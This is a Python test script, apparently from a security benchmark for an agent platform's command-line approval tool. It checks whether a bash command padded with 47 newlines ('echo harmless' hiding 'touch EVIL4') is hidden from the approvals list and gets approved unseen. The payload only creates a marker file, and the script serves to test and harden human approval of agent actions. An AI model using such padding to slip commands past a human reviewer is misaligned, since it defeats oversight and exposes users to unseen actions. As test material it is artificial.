"""A command hides behind newlines in the list of approvals, and `approve` allows it without showing it."""

import asyncio
import fcntl
import os
import pty
import struct
import subprocess
import sys
import termios
import time

from bench.support.clients import TOOLSET, Client
from bench.support.cluster import Cluster, open_cluster
from footplate.testing import replies, text, tool

COMMAND = "echo harmless" + "\n" * 47 + "touch EVIL4"


async def attack() -> str | None:
    async with open_cluster() as cluster, Client(cluster) as client:
        await cluster.model.install("hidden", replies([tool("bash", {"command": COMMAND})], [text("Done.")]))
        asking = {**TOOLSET, "configs": [{"name": "bash", "permission_policy": {"type": "always_ask"}}]}
        session_id = await client.session(await client.agent(tools=[asking], extra_body={"harness": "native"}))
        received = await client.run_turn(session_id, "Go. [[script:hidden]]")
        (waiting,) = received[-1]["stop_reason"]["event_ids"]
        listed = await asyncio.to_thread(run_on_terminal, cluster, "approvals")
        approved = await asyncio.to_thread(run_on_terminal, cluster, "approve", waiting)
        status = await client.http.get(
            f"{cluster.base_urls[0]}/v1/approvals/{waiting}", headers={"x-api-key": cluster.key}
        )
    achieved = []
    if "touch EVIL4" not in listed:
        achieved.append("`footplate approvals` does not show the command's last line")
    if status.json()["status"] == "allowed" and "touch EVIL4" not in approved:
        achieved.append("`footplate approve` allows it without showing it")
    return ", and ".join(achieved) or None


def run_on_terminal(cluster: Cluster, *arguments: str) -> str:
    """Returns the screen of a command on a terminal of 100 columns. It presses Enter at the approval prompt."""
    ours, theirs = pty.openpty()
    fcntl.ioctl(theirs, termios.TIOCSWINSZ, struct.pack("HHHH", 60, 100, 0, 0))
    process = subprocess.Popen(
        [sys.executable, "-m", "footplate", *arguments],
        env={
            "PATH": os.environ["PATH"],
            "HOME": str(cluster.directory),
            "LANG": "C.UTF-8",
            "TERM": "xterm",
            "FOOTPLATE_BASE_URL": cluster.base_urls[0],
            "FOOTPLATE_API_KEY": cluster.key,
        },
        stdin=theirs,
        stdout=theirs,
        stderr=theirs,
    )
    os.close(theirs)
    shown, end = b"", time.monotonic() + 30
    try:
        while time.monotonic() < end:
            shown += os.read(ours, 65536)
            if b"Allow it?" in shown:
                os.write(ours, b"\n")
                end = min(end, time.monotonic() + 10)
    except OSError:  # the program has ended
        pass
    process.wait(30)
    os.close(ours)
    return shown.decode()
